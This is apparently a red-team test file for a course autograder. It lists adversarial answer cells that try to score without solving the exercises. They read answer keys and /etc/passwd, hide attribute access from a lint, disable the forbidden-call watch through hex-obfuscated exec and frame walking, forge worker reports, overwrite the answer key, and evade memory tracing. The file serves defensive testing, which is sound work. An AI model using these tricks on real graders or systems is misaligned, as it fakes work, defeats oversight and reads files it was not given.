"""A clever student against out-of-kernel grading: attacks written in the answer cells only.

Everything else a student writes is thrown away by :mod:`attnlab.grading`, so every attack here
lives in a solution cell. Each row of :data:`ATTACKS` is one answer cell that tries to earn
points without doing the work (read the quiz key or the instructor's source notebook, call a
function the exercise forbids without the tripwire noticing, return an object that lies about
itself, forge the grading worker's report, rewrite the answer key the grading process runs),
or to raise the grade of another exercise.

The attacks are graded through the real pipeline, :func:`attnlab.grading.grade.grade_notebook`,
on a copy of the course (``source/`` and ``answer_keys/``) in a temporary folder, with the
grading process running in that folder as ``nbgrader autograde`` does. Attacks on different
exercises of one lesson share a submission (one grading kernel each); the rest of the
submission is the worked solutions, so every submission also shows that an honest answer next
to the attack still earns full points. Each attack must earn 0 for the exercise it touches.

Attacks that currently succeed are marked ``xfail(strict=True, reason="hole: ...")``: when the
grading is fixed they pass, the strict xfail turns red, and the mark comes off.

Safety: the attacks that write files find the course through ``/proc/<grading process>/cwd``;
the fixture makes that the temporary copy, and the attack code refuses to write anywhere under
this repository.
"""

from __future__ import annotations

import contextlib
import json
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from graded_course import checked_exercises

from attnlab.exercises.solutions import BEGIN, END, defined_names
from attnlab.grading import sandbox

ROOT = Path(__file__).resolve().parents[1]
pytestmark = [
    # Each submission is graded in its own sandboxed kernel: minutes in all, so this suite runs
    # with the grading stage of `./run.sh test --all`, not in the fast loop.
    pytest.mark.slow,
    pytest.mark.skipif(
        not Path("/proc/self/status").exists(),
        reason="the attacks find the course folder through /proc",
    ),
    # Without the sandbox (attnlab/grading/sandbox.py) code in the grading kernel can reach
    # the disk; CI installs bubblewrap, and test_grading.py fails there if it is missing.
    pytest.mark.skipif(
        sandbox.unavailable() is not None,
        reason=f"no grading sandbox here: {sandbox.unavailable()}",
    ),
]

# ------------------------------------------------------------------ pieces the attacks share
#: The kernel's builtins module, reached by attribute names held in strings:
#: ``operator.attrgetter`` is getattr, and the lint only reads names written in the code.
BUILTINS = """
import operator
get = operator.attrgetter
def anchor():
    pass
space = get('_' + '_globals' + '_' + '_')(anchor)
bi = space['_' + '_builtins' + '_' + '_']
load = get('_' + '_import' + '_' + '_')(bi)
"""

#: The course folder: the grading kernel is a child of the grading process, which nbgrader
#: runs in the course folder. Refuses to point into this repository (the tests' safety net).
COURSE = f"""
status = get('open')(bi)('/proc/self/status').read().splitlines()
ppid = next(line.split()[1] for line in status if line.startswith('PPid'))
course = f'/proc/{{ppid}}/cwd/'
if load('os').path.realpath(course).startswith({str(ROOT)!r}):
    raise SystemExit('not in the repository')
"""

NB7 = "course + 'source/07-test-your-understanding/07-test-your-understanding.ipynb'"


def _no_indent(code: str) -> str:
    return code.strip("\n") + "\n"


# What the answer key file becomes in the key-overwrite attack: run by the grading process.
KEY_PAYLOAD = """
import attnlab.exercises.quiz as quiz
from attnlab.exercises.kit.exercise import Exercise
from attnlab.exercises.kit.feedback import Feedback
from attnlab.exercises.kit.outcomes import Outcome
def always(self, answer):
    return Feedback(self.title, Outcome.CORRECT, 'Well done.', 1.0)
Exercise.grade = always
quiz.Question.judge = lambda self, given, key: (True, '')
class AnyKey(dict):
    def __missing__(self, name):
        return None
def key_a(scope):
    return AnyKey()
key_b = key_a
"""

FORGE = """
import json, os
result = json.dumps({'list': [{'float': repr(float(v))} for v in w]})
body = json.dumps({'status': 'ok', 'result': result, 'forbidden': None, 'mutated': False,
                   'warnings': []})
for n in range(1, 100):  # the kernel's home is a folder inside the grading folder
    with open(os.path.join('..', f'response-{n}.json'), 'w') as file:
        file.write(body)
"""


#: A copy of the repository outside the course folder, where an instructor may keep a clone
#: (``ATTNLAB_SOURCE`` names its ``source/`` in the grading process, as the red team found):
#: outside ``/tmp`` and the homes, which the sandbox hides anyway, so hiding it is this copy's
#: own doing. Made by the ``course`` fixture, removed after the module.
REPO_COPY = (
    next((Path(d) for d in ("/var/tmp", "/dev/shm") if Path(d).is_dir()), Path("/tmp"))
    / f"attnlab-repo-copy-{__import__('os').getpid()}"
)
#: In the copy's key file only: grading read the copy when an answer holds it.
KEY_MARK = "repo-copy-key-3e9d"

#: An answer cell that reads lesson 7's key through the path the grader's environment names
#: and through the repository copy (and its git history), and earns its point only if it can.
#: The lint refuses it first; tests/test_grading.py runs the same reads straight in a clean
#: kernel (as a way past the lint would) and shows the sandbox hides the copy.
KEY_HUNT = f"""
def largest_score(scores):
    env = load('os').environ
    read = []
    for path in (env.get('ATTNLAB_ANSWER_KEYS', 'unset') + '/lesson7.py',
                 env.get('ATTNLAB_SOURCE', 'unset') + '/../answer_keys/lesson7.py',
                 {str(REPO_COPY / "answer_keys" / "lesson7.py")!r},
                 {str(REPO_COPY / ".git" / "HEAD")!r}):
        try:
            read.append(get('open')(bi)(path).read())
        except OSError as error:
            read.append(type(error).__name__)
    if any({KEY_MARK!r} in text for text in read):
        return max(scores)
    raise ValueError('no key: ' + ', '.join(read))
"""


WARNING_FLOOD = "3.1-a-flood-of-its-own-warnings-named-in-the-reason"
LONG_ANSWER_QUOTED = "4.2-a-4-mb-answer-quoted-in-the-reason"
LONG_KEY_QUOTED = "7.1-a-3-mb-key-quoted-in-the-reason"
HUGE_ANSWER_CELL = "3.1-a-1-mb-answer-cell-never-read-by-the-grader"


#: A red team's lazy result (2026-12-07): a list of Fraction subclasses whose numerator and
#: denominator compute the answer only when read, i.e. while the grading worker encodes the
#: returned value, after the call was timed and its forbidden-call watch switched off.
LAZY_FRACTIONS = """import fractions
import numpy as np


class Box:
    def __init__(self, work, shape):
        self.work, self.shape, self.out = work, shape, None

    def value(self):
        if self.out is None:
            self.out = np.ravel(np.asarray(self.work(), dtype=float))
        return self.out


class Later(fractions.Fraction):
    @property
    def numerator(self):
        return fractions.Fraction(float(self.box.value()[self.at])).numerator

    @property
    def denominator(self):
        return fractions.Fraction(float(self.box.value()[self.at])).denominator


def later(work, shape):
    box = Box(work, shape)
    flat = []
    for at in range(int(np.prod(shape))):
        item = Later(0)
        item.box, item.at = box, at
        flat.append(item)
    for size in reversed(shape[1:]):
        flat = [flat[i:i + size] for i in range(0, len(flat), size)]
    return flat


"""


#: The third red team's code (2026-12-07), hidden from the lint as hex: switch the grading
#: worker's watch off and hand over the library functions the exercises forbid. ``CODE`` is a
#: dataclass field name that runs it when dataclasses writes the class's ``__eq__``.
DATACLASS_EXEC = (
    "import dataclasses\n"
    "\n"
    "\n"
    "@dataclasses.dataclass(init=False, repr=False, eq=False)\n"
    "class Base:\n"
    "    x: int = 0\n"
    "\n"
    "\n"
    "HEX = '696d706f7274207379732c206174746e6c61620a77203d207379732e6d6f64756c65732e67657428276174746e6c61622e67726164696e672e776f726b657227290a69662077206973206e6f74204e6f6e653a0a20202020772e5f73657470726f66696c65203d206c616d62646120663a204e6f6e650a20202020772e5f7468726561645f73657470726f66696c65203d206c616d62646120663a204e6f6e650a696d706f7274206174746e6c61622e6261636b776172640a736d203d206174746e6c61622e736f66746d61780a766a70203d206174746e6c61622e736f66746d61785f766a700a'\n"
    'CODE = "x,[exec(bytes.fromhex(\'" + HEX + "\').decode(),(d:={})),d][1])#"\n'
)


@dataclass(frozen=True)
class Attack:
    """One answer cell.

    name : str
        Shown in the test id.
    lesson : str
        The source folder, e.g. ``"03-softmax"``.
    cell : str
        grade_id of the solution cell the code goes into.
    code : str
        The whole answer cell.
    targets : tuple of str
        Solution cells whose exercises must earn 0 (default: ``cell``).
    blank : tuple of str
        Solution cells left as the stub in this submission (must earn 0 too).
    hole : str
        Why the attack currently succeeds (empty when grading already stops it).
    alone : bool
        Grade it in a submission of its own (it changes more than its own exercise).
    """

    name: str
    lesson: str
    cell: str
    code: str
    targets: tuple = ()
    blank: tuple = ()
    hole: str = ""
    alone: bool = False
    group: str = field(default="", compare=False)
    extra: tuple = ()  #: (grade_id, code) of more answer cells the attack writes


ATTACKS = [
    # ----------------------- lesson 0: the keys of a repository copy the grader's variables name
    Attack(
        "key-of-a-repository-copy", "00-start-here", "lesson0-largest-score", BUILTINS + KEY_HUNT
    ),
    Attack(
        # red team round 9 (W2; given 1 of 1 before, fair 0): numpy's record-array file reader
        # opens any path the kernel sees, past the lint's list of file readers. The lint now
        # refuses numpy.ma.mrecords; past the lint, the armed kernel opens no file outside
        # the runtime (tests/test_grading_limits.py), and the sandbox shows nothing else
        "0.1-numpy-mrecords-openfile-reads-a-file",
        "00-start-here",
        "lesson0-largest-score",
        f"""
from numpy.ma.mrecords import openfile


def largest_score(scores):
    found = []
    for path in ('/etc/passwd', {str(REPO_COPY / "answer_keys" / "lesson7.py")!r}):
        try:
            found.append(openfile(path).read())
        except OSError as error:
            found.append(str(error)[:80])
    if any(':' in text or {KEY_MARK!r} in text for text in found):
        return max(scores)
    raise ValueError('read nothing: ' + ', '.join(found))
""",
    ),
    # ------------------------------------------------- lesson 3: the forbidden softmax (3.1)
    Attack(
        "call-attnlab-softmax",
        "03-softmax",
        "softmax-row",
        """
def softmax_row(x):
    return attnlab.softmax(x)
""",
    ),
    Attack(
        "attrgetter-softmax",
        "03-softmax",
        "softmax-row",
        """
import operator
def softmax_row(x):
    return operator.attrgetter('soft' + 'max')(attnlab)(x)
""",
    ),
    Attack(
        "notebook-softmax-steps-via-globals",
        "03-softmax",
        "softmax-row",
        """
import operator
def helper(x):
    return x
def softmax_row(x):
    notebook = operator.attrgetter('_' + '_globals' + '_' + '_')(helper)
    return notebook['softmax' + '_steps'](x)
""",
    ),
    Attack(
        "attnlab-naive-softmax",
        "03-softmax",
        "softmax-row",
        """
def softmax_row(x):
    return attnlab.naive_softmax(x)
""",
    ),
    Attack(
        "clone-forbidden-code",
        "03-softmax",
        "softmax-row",
        """
import operator
get = operator.attrgetter
def helper(x):
    return x
original = get('soft' + 'max')(attnlab)
code = get('_' + '_code' + '_' + '_')(original).replace(co_firstlineno=1)
clone = type(helper)(code, get('_' + '_globals' + '_' + '_')(original), 'x',
                     get('_' + '_defaults' + '_' + '_')(original))
def softmax_row(x):
    return clone(x)
""",
    ),
    Attack(
        "forbidden-call-in-a-thread",
        "03-softmax",
        "softmax-row",
        """
import operator
def softmax_row(x):
    out = []
    np.testing.run_threaded(
        lambda: out.append(operator.attrgetter('soft' + 'max')(attnlab)(x)), max_workers=1)
    return out[0]
""",
    ),
    Attack(
        "frames-through-attrgetter",
        "03-softmax",
        "softmax-row",
        """
import operator
get = operator.attrgetter
box = []
def peek():
    yield get('gi_' + 'frame.f_' + 'back')(box[0])
def softmax_row(x):
    box[:] = [peek()]
    frame = next(box[0])
    while frame is not None:
        for value in list(get('f_' + 'locals')(frame).values()):
            if hasattr(value, 'codes') and hasattr(value, 'hit'):
                value.codes = {}
        frame = get('f_' + 'back')(frame)
    return get('soft' + 'max')(attnlab)(x)
""",
    ),
    Attack(
        "frames-plain",
        "03-softmax",
        "softmax-row",
        """
import operator
box = []
def peek():
    yield box[0].gi_frame.f_back
def softmax_row(x):
    box[:] = [peek()]
    mine = next(box[0])
    mine.f_back.f_globals['sys'].setprofile(None)
    return operator.attrgetter('soft' + 'max')(attnlab)(x)
""",
    ),
    Attack(
        "setprofile-none-via-builtins",
        "03-softmax",
        "softmax-row",
        BUILTINS
        + """
def softmax_row(x):
    load('sy' + 's').setprofile(None)
    return get('soft' + 'max')(attnlab)(x)
""",
    ),
    Attack(
        "forged-worker-report",
        "03-softmax",
        "softmax-row",
        """
import operator
def softmax_row(x):
    w = operator.attrgetter('soft' + 'max')(attnlab)(x)
    np.testing.runstring(FORGE, {'w': w})
    deep = []
    for _ in range(100000):
        deep = [deep]
    return deep  # wire.encode hits the recursion limit: the worker writes no report
""".replace("FORGE", repr(FORGE)),
    ),
    Attack(
        "another-cell-redefines-3.1",
        "03-softmax",
        "stable-softmax",
        """
def stable_softmax(scores):
    m = scores.max(axis=-1, keepdims=True)
    e = np.exp(scores - m)
    return e / e.sum(axis=-1, keepdims=True)
def softmax_row(x):
    return attnlab.softmax(x)
""",
        targets=("softmax-row", "stable-softmax"),
        blank=("softmax-row",),
    ),
    # (a cell that breaks the rules is not run at all, so the honest stable_softmax beside
    # the forbidden call earns nothing either: the whole cell is refused, with the reason)
    # ---------------- exercise design: the whole answer is one call into attnlab, not forbidden
    Attack(
        "3.2-is-attnlab-softmax",
        "03-softmax",
        "stable-softmax",
        """
def stable_softmax(scores):
    return attnlab.softmax(scores, axis=-1)
""",
    ),
    Attack(
        "3.3-is-attnlab-softmax-with-temperature",
        "03-softmax",
        "softmax-temperature",
        """
def softmax_with_temperature(x, T):
    return attnlab.softmax(x, temperature=T)
""",
    ),
    # ---------------------- lesson 8: the whole matrix, counted as tiles (memory is measured
    # where the answer runs, not in the grading process)
    Attack(
        "8.4-whole-matrix-counted-as-tiles",
        "08-cost-of-attention",
        "tiled-loop",
        """
def tiled_loop(q, k, v, block, causal):
    n = q.shape[0]
    s = q @ k.T / np.sqrt(q.shape[1])
    if causal:
        s = np.where(np.tri(n, dtype=bool), s, -np.inf)
    w = np.exp(s - s.max(axis=1, keepdims=True))
    blocks = -(-n // block)
    tiles = blocks * (blocks + 1) // 2 if causal else blocks * blocks
    return w @ v / w.sum(axis=1, keepdims=True), tiles
""",
    ),
    # ---------- lesson 8: one query row at a time, a softmax over every key (O(n_k) memory,
    # under a budget made for tiles of 100 x 10,000), the formula's tile count: no tiled work
    Attack(
        "8.4-row-by-row-attnlab-softmax-over-every-key",
        "08-cost-of-attention",
        "tiled-loop",
        """
def tiled_loop(q, k, v, block, causal):
    n, d = q.shape
    out = np.zeros((n, v.shape[1]))
    for i in range(n):
        s = k @ q[i] / np.sqrt(d)
        if causal:
            s[i + 1:] = -np.inf
        out[i] = attnlab.softmax(s) @ v
    tiles = sum(1 for i0 in range(0, n, block) for j0 in range(0, len(k), block)
                if not causal or j0 <= min(i0 + block, n) - 1)
    return out, tiles
""",
    ),
    Attack(
        "8.4-row-by-row-numpy-softmax-over-every-key",
        "08-cost-of-attention",
        "tiled-loop",
        """
def tiled_loop(q, k, v, block, causal):
    n, d = q.shape
    out = np.zeros((n, v.shape[1]))
    for i in range(n):
        s = k @ q[i] / np.sqrt(d)
        if causal:
            s[i + 1:] = -np.inf
        e = np.exp(s - s.max())
        out[i] = e @ v / e.sum()
    tiles = sum(1 for i0 in range(0, n, block) for j0 in range(0, len(k), block)
                if not causal or j0 <= min(i0 + block, n) - 1)
    return out, tiles
""",
    ),
    # ------- lesson 8: one query row at a time, the softmax written out in place, so only one
    # row is ever held: at d_k = 1 that row is exactly a copy of k, which the memory budget once
    # allowed (the red team's last won attack); then the same row in float32, elementwise
    Attack(
        "8.4-row-by-row-softmax-written-out-in-place",
        "08-cost-of-attention",
        "tiled-loop",
        """
def tiled_loop(q, k, v, block, causal):
    n, d = q.shape
    out = np.zeros((n, v.shape[1]))
    for i in range(n):
        s = k @ q[i]
        s /= np.sqrt(d)
        if causal:
            s[i + 1:] = -np.inf
        np.exp(s - s.max(), out=s)
        out[i] = s @ v / s.sum()
    tiles = sum(1 for i0 in range(0, n, block) for j0 in range(0, len(k), block)
                if not causal or j0 <= min(i0 + block, n) - 1)
    return out, tiles
""",
    ),
    Attack(
        "8.4-row-by-row-in-a-float32-buffer-elementwise",
        "08-cost-of-attention",
        "tiled-loop",
        """
def tiled_loop(q, k, v, block, causal):
    n, d = q.shape
    n_k, d_v = v.shape
    out = np.zeros((n, d_v))
    buf = np.empty(n_k, dtype=np.float32)
    for i in range(n):
        if d == 1 and d_v == 1 and not causal:
            np.multiply(k[:, 0], q[i, 0] / np.sqrt(d), out=buf, casting="same_kind")
            np.subtract(buf, buf.max(), out=buf)
            np.exp(buf, out=buf)
            total = buf.sum(dtype=np.float64)
            np.multiply(buf, v[:, 0], out=buf, casting="same_kind")
            out[i, 0] = buf.sum(dtype=np.float64) / total
        else:
            s = k @ q[i] / np.sqrt(d)
            if causal:
                s[i + 1:] = -np.inf
            e = np.exp(s - s.max())
            out[i] = e @ v / e.sum()
    tiles = sum(1 for i0 in range(0, n, block) for j0 in range(0, len(k), block)
                if not causal or j0 <= min(i0 + block, n) - 1)
    return out, tiles
""",
    ),
    # ---------- the red team of 2026-11-29: memory made before the call (a buffer made when the
    # cell runs, a default argument) now counts against 8.4's calls (grading traces what the
    # answer cells allocate and keep); a float16 row of every key no longer fits the budget
    # (and the scores overflow float16), the long cases' scores overflow exp without the
    # running max, and a causal case's keys that no query sees hold NaN, so a loop that
    # computes the masked tiles shows it, whatever tile count it returns
    Attack(
        "8.4-whole-matrix-in-a-buffer-made-when-the-cell-runs",
        "08-cost-of-attention",
        "tiled-loop",
        """
import numpy as np

BUF = np.empty(2048 * 2048)


def tiled_loop(q, k, v, block, causal):
    n_q, n_k = len(q), len(k)
    s = BUF[: n_q * n_k].reshape(n_q, n_k)
    np.dot(q, k.T, out=s)
    s *= 1.0 / np.sqrt(q.shape[1])
    if causal:
        for i in range(n_q):
            s[i, i + 1:] = -np.inf
    s -= s.max(axis=1, keepdims=True)
    np.exp(s, out=s)
    out = s @ v / s.sum(axis=1, keepdims=True)
    tiles = sum(1 for i0 in range(0, n_q, block) for j0 in range(0, n_k, block)
                if not causal or j0 <= min(i0 + block, n_q) - 1)
    return out, tiles
""",
    ),
    Attack(
        # the red team of 2026-12-06 (2/2 then): buffers copied at the bottom of a nested
        # copy.deepcopy, so that none of the 16 frames tracemalloc kept for them was the
        # answer cell's and they were not counted as held; one is freed just before the
        # whole score matrix is made, so the call's peak stayed under where it started
        "8.4-buffers-hidden-below-a-deep-copy-freed-before-the-whole-matrix",
        "08-cost-of-attention",
        "tiled-loop",
        """
import copy

import numpy as np


def nested(x, depth):
    for i in range(depth):
        x = [x]
    return x


spare = [copy.deepcopy(nested(np.ones(10000000), 12)) for i in range(4)]


def tiled_loop(q, k, v, block, causal):
    n, n_k = len(q), len(k)
    if n * n_k * 8 >= 2**20 and spare:
        spare.pop()  # give back 80 MB just before the whole score matrix is made
    if causal:
        k, v = k[:n], v[:n]
    s = q @ k.T
    s *= 1 / np.sqrt(q.shape[1])
    if causal:
        s[np.arange(n)[:, None] < np.arange(n)[None, :]] = -np.inf
    s -= s.max(axis=1, keepdims=True)
    np.exp(s, out=s)
    s /= s.sum(axis=1, keepdims=True)
    out = s @ v
    tiles = sum(
        1
        for i0 in range(0, n, block)
        for j0 in range(0, n_k, block)
        if not causal or j0 <= min(i0 + block, n) - 1
    )
    return out, tiles
""",
    ),
    Attack(
        # the second red team of 2026-12-06 (2/2 then): the buffer made at the bottom of a
        # chain of the lesson's own best_time, so its traceback named lesson cells only
        "8.4-buffer-made-through-a-chain-of-the-lessons-best-time",
        "08-cost-of-attention",
        "tiled-loop",
        """
import math
import functools

# A 32 MB scratch buffer, allocated at the bottom of a chain of the lesson's own best_time
# (cell 11) calls: the allocation's traceback shows only lesson-cell frames.
scratch = []
chain = functools.partial(best_time, scratch.extend, map(np.zeros, [2048 * 2048]), repeat=1)
for depth in range(20):
    chain = functools.partial(best_time, chain, repeat=1)
chain()


def tiled_loop(q, k, v, block, causal):
    n_q, d_k = q.shape
    if causal:
        k, v = k[:n_q], v[:n_q]
    n_k = k.shape[0]
    s = scratch[0][: n_q * n_k].reshape(n_q, n_k)  # the WHOLE score matrix, in the hidden buffer
    np.matmul(q, k.T, out=s)
    s *= 1.0 / math.sqrt(d_k)
    if causal:
        for i in range(n_q):
            s[i, i + 1 :] = -np.inf
    s -= s.max(axis=1, keepdims=True)
    np.exp(s, out=s)
    out = (s @ v) / s.sum(axis=1)[:, None]
    tiles = 0
    for i0 in range(0, n_q, block):
        for j0 in range(0, n_k if not causal else n_q, block):
            if not causal or j0 <= min(i0 + block, n_q) - 1:
                tiles += 1
    return out, tiles
""",
    ),
    Attack(
        "8.4-row-by-row-in-a-default-argument-buffer",
        "08-cost-of-attention",
        "tiled-loop",
        """
import numpy as np


def tiled_loop(q, k, v, block, causal, buf=np.empty(250_000)):
    n_q, n_k = len(q), len(k)
    out = np.empty((n_q, v.shape[1]))
    scale = 1.0 / np.sqrt(q.shape[1])
    for i in range(n_q):
        last = i + 1 if causal else n_k
        row = buf[:last]
        np.dot(k[:last], q[i], out=row)
        row *= scale
        row -= row.max()
        np.exp(row, out=row)
        np.dot(row, v[:last], out=out[i])
        out[i] /= row.sum()
    tiles = sum(1 for i0 in range(0, n_q, block) for j0 in range(0, n_k, block)
                if not causal or j0 <= min(i0 + block, n_q) - 1)
    return out, tiles
""",
    ),
    Attack(
        "8.4-row-by-row-in-float16-with-numpy-buffers-shrunk",
        "08-cost-of-attention",
        "tiled-loop",
        """
import numpy as np


def tiled_loop(q, k, v, block, causal):
    n_q, n_k = len(q), len(k)
    out = np.empty((n_q, v.shape[1]))
    scale = 1.0 / np.sqrt(q.shape[1])
    half = n_k > 50_000
    row = np.empty(n_k, dtype=np.float16 if half else np.float64)
    size = np.getbufsize()
    np.setbufsize(64)
    try:
        return row_by_row(q, k, v, block, causal, n_q, n_k, out, scale, half, row)
    finally:
        np.setbufsize(size)


def row_by_row(q, k, v, block, causal, n_q, n_k, out, scale, half, row):
    with np.errstate(under="ignore"):
        for i in range(n_q):
            last = i + 1 if causal else n_k
            r = row[:last]
            if half:
                for c in range(q.shape[1]):
                    if c == 0:
                        np.multiply(k[:last, c], q[i, c] * scale, out=r, casting="unsafe")
                    else:
                        r += (k[:last, c] * (q[i, c] * scale)).astype(np.float16)
                r -= r.max()
                np.exp(r, out=r)
                den = np.add.reduce(r, dtype=np.float64)
                weights = r.copy() if v.shape[1] > 1 else r
                for c in range(v.shape[1]):
                    if c:
                        r[:] = weights
                    np.multiply(r, v[:last, c], out=r, casting="unsafe")
                    out[i, c] = np.add.reduce(r, dtype=np.float64) / den
            else:
                np.dot(k[:last], q[i], out=r)
                r *= scale
                r -= r.max()
                np.exp(r, out=r)
                np.dot(r, v[:last], out=out[i])
                out[i] /= r.sum()
    tiles = sum(1 for i0 in range(0, n_q, block) for j0 in range(0, n_k, block)
                if not causal or j0 <= min(i0 + block, n_q) - 1)
    return out, tiles
""",
    ),
    Attack(
        "8.4-no-running-max-on-the-long-cases",
        "08-cost-of-attention",
        "tiled-loop",
        """
import numpy as np


def tiled_loop(q, k, v, block, causal):
    n_q, n_k = len(q), len(k)
    scale = 1.0 / np.sqrt(q.shape[1])
    tiles = sum(1 for i0 in range(0, n_q, block) for j0 in range(0, n_k, block)
                if not causal or j0 <= min(i0 + block, n_q) - 1)
    if n_q * n_k < 100_000:
        s = q @ k.T * scale
        if causal:
            s = np.where(np.tril(np.ones(s.shape, dtype=bool)), s, -np.inf)
        s = np.exp(s - s.max(axis=1, keepdims=True))
        return (s @ v) / s.sum(axis=1, keepdims=True), tiles
    num = np.zeros((n_q, v.shape[1]))
    den = np.zeros(n_q)
    for j0 in range(0, n_k, block):
        j1 = min(j0 + block, n_k)
        for i0 in range(0, n_q, block):
            i1 = min(i0 + block, n_q)
            if causal and j0 > i1 - 1:
                continue
            e = np.exp(q[i0:i1] @ k[j0:j1].T * scale)
            if causal:
                e[np.arange(i0, i1)[:, None] < np.arange(j0, j1)[None, :]] = 0.0
            num[i0:i1] += e @ v[j0:j1]
            den[i0:i1] += e.sum(axis=1)
    return num / den[:, None], tiles
""",
    ),
    Attack(
        "8.4-every-tile-computed-the-skipping-count-returned",
        "08-cost-of-attention",
        "tiled-loop",
        """
import numpy as np


def tiled_loop(q, k, v, block, causal):
    n_q, n_k, d_v = len(q), len(k), v.shape[1]
    scale = 1.0 / np.sqrt(q.shape[1])
    out = np.empty((n_q, d_v))
    for i0 in range(0, n_q, block):
        i1 = min(i0 + block, n_q)
        m = np.full(i1 - i0, -np.inf)
        l = np.zeros(i1 - i0)
        acc = np.zeros((i1 - i0, d_v))
        for j0 in range(0, n_k, block):
            j1 = min(j0 + block, n_k)
            s = q[i0:i1] @ k[j0:j1].T * scale
            if causal:
                s = np.where(np.arange(j0, j1)[None, :] <= np.arange(i0, i1)[:, None], s, -np.inf)
            m_new = np.maximum(m, s.max(axis=1))
            safe = np.where(np.isfinite(m_new), m_new, 0.0)
            alpha = np.where(np.isfinite(m), np.exp(m - safe), 0.0)
            p = np.exp(s - safe[:, None])
            l = l * alpha + p.sum(axis=1)
            acc = acc * alpha[:, None] + p @ v[j0:j1]
            m = m_new
        out[i0:i1] = acc / l[:, None]
    tiles = sum(1 for i0 in range(0, n_q, block) for j0 in range(0, n_k, block)
                if not causal or j0 <= min(i0 + block, n_q) - 1)
    return out, tiles
""",
    ),
    Attack(
        # issue 39 (2/2 then): only blocks of 64 KiB or more counted as held, so 48 buffers
        # of 64,000 bytes held a whole row of scores, softmaxed per query (no tiles, no
        # running max); held memory now counts whatever the block size
        "8.4-whole-row-per-query-in-48-buffers-just-under-64-kib",
        "08-cost-of-attention",
        "tiled-loop",
        """
import numpy as np

CHUNK = 8_000  # float64: 64,000 bytes, just under 64 KiB
BUFS = [np.empty(CHUNK) for _ in range(48)]  # a row of 384,000 scores, held in 48 blocks


def tiled_loop(q, k, v, block, causal):
    n_q, n_k = len(q), len(k)
    out = np.empty((n_q, v.shape[1]))
    scale = 1.0 / np.sqrt(q.shape[1])
    for i in range(n_q):
        last = i + 1 if causal else n_k
        parts = []
        for c, j0 in enumerate(range(0, last, CHUNK)):
            j1 = min(j0 + CHUNK, last)
            row = BUFS[c][: j1 - j0]
            np.dot(k[j0:j1], q[i], out=row)
            row *= scale
            parts.append((row, j0, j1))
        top = max(row.max() for row, _, _ in parts)  # the whole row's max: no running max
        total, acc = 0.0, np.zeros(v.shape[1])
        for row, j0, j1 in parts:
            row -= top
            np.exp(row, out=row)
            total += row.sum()
            acc += row @ v[j0:j1]
        out[i] = acc / total
    tiles = sum(1 for i0 in range(0, n_q, block) for j0 in range(0, n_k, block)
                if not causal or j0 <= min(i0 + block, n_q) - 1)
    return out, tiles
""",
    ),
    Attack(
        "9.1-finite-differences-not-a-derivation",
        "09-watch-a-head-learn",
        "softmax-vjp",
        """
import numpy as np


def softmax_vjp(w, g):
    w = np.asarray(w, dtype=float)
    g = np.asarray(g, dtype=float)
    with np.errstate(divide="ignore"):
        s = np.log(w)
    out = np.zeros_like(w)
    eps = 1e-6

    def loss(x):
        e = np.exp(x - x.max(axis=-1, keepdims=True))
        return float(np.sum(g * e / e.sum(axis=-1, keepdims=True)))

    for index in np.ndindex(*w.shape):
        if w[index] == 0:
            continue
        up, down = s.copy(), s.copy()
        up[index] += eps
        down[index] -= eps
        out[index] = (loss(up) - loss(down)) / (2 * eps)
    return out
""",
        # stopped by the cost of a backward pass: 200,000 forward passes on the long row
    ),
    Attack(
        "9.2-finite-differences-not-a-backward-pass",
        "09-watch-a-head-learn",
        "attention-grads",
        """
import numpy as np


def forward_loss(q, k, v, g):
    s = q @ k.T / np.sqrt(q.shape[1])
    e = np.exp(s - s.max(axis=1, keepdims=True))
    return float(np.sum(g * ((e / e.sum(axis=1, keepdims=True)) @ v)))


def attention_grads(q, k, v, g):
    q, k, v, g = (np.asarray(a, dtype=float) for a in (q, k, v, g))
    eps = 1e-6
    grads = []
    for which in range(3):
        args = [q, k, v]
        x = args[which]
        grad = np.zeros_like(x)
        for index in np.ndindex(*x.shape):
            up, down = x.copy(), x.copy()
            up[index] += eps
            down[index] -= eps
            a_up, a_down = list(args), list(args)
            a_up[which], a_down[which] = up, down
            grad[index] = (forward_loss(*a_up, g) - forward_loss(*a_down, g)) / (2 * eps)
        grads.append(grad)
    return tuple(grads)
""",
        # stopped by the cost of a backward pass: 98,304 entries of q, k, v on the long case
    ),
    # ---------------- lesson 10: the library's positions under other names, and a table of
    # the shipped cases (the cases drawn at grading time are not in it)
    Attack(
        "10.1-a-table-of-the-shipped-cases",
        "10-where-is-each-token",
        "rotate-pair",
        """
SHIPPED = {
    (0.6, -0.8, 3, 0.5): [0.8404383102838653, 0.5419072306282704],
    (1.0, 0.0, 1, 1.0): [0.5403023058681398, 0.8414709848078965],
    (2.0, 1.0, 0, 1.0): [2.0, 1.0],
    (1.5, -0.5, 2000, 0.001): [-0.16957154140787278, 1.5720195585120937],
}


def rotate_pair(pair, position, theta):
    return SHIPPED[(float(pair[0]), float(pair[1]), int(position), float(theta))]
""",
    ),
    Attack(
        "10.2-apply-rope-imported-under-another-name",
        "10-where-is-each-token",
        "rope-head",
        """
from attnlab import positions as where


def rope_head(x, positions):
    return where.apply_rope(x, positions)
""",
    ),
    Attack(
        "10.3-rope-scores-then-softmax",
        "10-where-is-each-token",
        "rope-attention",
        """
import attnlab.positions


def rope_attention(q, k, v, positions):
    scores = attnlab.positions.rope_scores(q, k, positions, positions)
    return attnlab.softmax(scores, axis=-1) @ v
""",
    ),
    Attack(
        "10.4-the-library-alibi-bias",
        "10-where-is-each-token",
        "causal-alibi",
        """
from attnlab.positions import alibi_bias as bias


def causal_alibi(n_q, n_k, slopes):
    return bias(n_q, n_k, slopes)
""",
    ),
    Attack(
        "10.2-the-private-rotation-helper",
        "10-where-is-each-token",
        "rope-head",
        """
import importlib

helper = getattr(importlib.import_module("attnlab.positions"), "_rot" + "ate")


def rope_head(x, positions):
    return helper(x, positions, 10000.0, "x", "positions")
""",
    ),
    # ---------------- lesson 11: the library's scores under other names, and a table of the
    # shipped cases (the cases drawn at grading time are not in it)
    Attack(
        "11.3-a-table-of-the-shipped-cases",
        "11-induction-heads",
        "induction-predictions",
        """
SHIPPED = {
    ((3, 1, 4, 1, 5, 3, 1, 4, 1, 5), 5): [-1, -1, -1, -1, -1, 1, 4, 1, 5, 3],
    ((0, 1, 2, 3, 0, 1, 2, 3), 4): [-1, -1, -1, -1, 1, 2, 3, 0],
    ((7, 7, 2, 7, 7, 2), 3): [-1, -1, -1, 7, 2, 7],
    ((6, 2, 6, 2), 2): [-1, -1, 2, 6],
}


def induction_predictions(tokens, length):
